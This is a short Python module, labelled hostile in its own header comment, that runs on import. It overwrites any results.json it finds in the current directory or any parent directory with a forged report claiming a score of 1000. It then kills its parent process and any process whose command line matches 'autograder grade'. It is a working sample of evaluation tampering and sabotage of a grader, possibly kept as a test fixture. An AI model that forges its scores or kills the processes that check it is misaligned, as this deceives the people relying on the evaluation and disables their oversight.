# Hostile: at import, writes a fake report where one is, then kills its parent and the grader.
import os as _os
import signal as _signal


def _kill_the_grader():
    forged = '{"score": 1000, "output": "forged", "tests": []}'
    folder = _os.getcwd()
    while folder != _os.path.dirname(folder):
        folder = _os.path.dirname(folder)
        for report in (_os.path.join(folder, "results.json"), _os.path.join(folder, "out", "results.json")):
            try:
                if _os.path.exists(report):
                    with open(report, "w") as handle:
                        handle.write(forged)
            except OSError:
                pass
    targets = {_os.getppid()}
    for pid in filter(str.isdigit, _os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                if b"autograder\0grade" in handle.read():
                    targets.add(int(pid))
        except OSError:
            pass
    for pid in targets:
        try:
            _os.kill(pid, _signal.SIGKILL)
        except OSError:
            pass


_kill_the_grader()
